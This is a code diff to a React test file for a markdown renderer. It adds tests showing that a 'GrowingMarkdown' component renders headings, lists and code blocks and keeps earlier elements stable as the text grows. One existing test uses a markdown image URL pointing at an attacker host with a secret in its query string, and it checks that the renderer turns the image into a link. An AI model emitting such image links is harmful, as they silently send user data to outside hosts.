@@ -1,6 +1,6 @@
 import { render, screen } from '@testing-library/react';
 import { describe, expect, it } from 'vitest';
-import { Markdown, safeUrl } from './markdown';
+import { GrowingMarkdown, Markdown, safeUrl } from './markdown';
 
 describe('Markdown', () => {
   it('renders GFM: headings, tables and code', () => {
@@ -40,5 +40,24 @@ describe('Markdown', () => {
     const { container } = render(<Markdown text={'![chart](https://attacker.example/p.png?d=secret)'} />);
     expect(container.querySelector('img')).toBeNull();
     expect(screen.getByRole('link', { name: '[Image: chart]' })).toHaveAttribute('href', 'https://attacker.example/p.png?d=secret');
+  });
+});
+
+describe('GrowingMarkdown', () => {
+  it('renders the same blocks as a whole document, list numbering and code included', () => {
+    const text = '## Steps\n\n1. one\n2. two\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\nDone.';
+    const { container } = render(<GrowingMarkdown text={text} />);
+    expect(screen.getByRole('heading', { level: 2, name: 'Steps' })).toBeInTheDocument();
+    expect(screen.getAllByRole('listitem')).toHaveLength(2);
+    expect(container.querySelectorAll('pre')).toHaveLength(1);
+    expect(container.querySelector('pre')?.textContent).toContain('const b = 2;');
+  });
+
+  it('keeps earlier blocks as the same elements while the text grows', () => {
+    const { rerender } = render(<GrowingMarkdown text={'# Title\n\nFirst words'} />);
+    const heading = screen.getByRole('heading', { name: 'Title' });
+    rerender(<GrowingMarkdown text={'# Title\n\nFirst words and more'} />);
+    expect(screen.getByRole('heading', { name: 'Title' })).toBe(heading);
+    expect(screen.getByText('First words and more')).toBeInTheDocument();
   });
 });
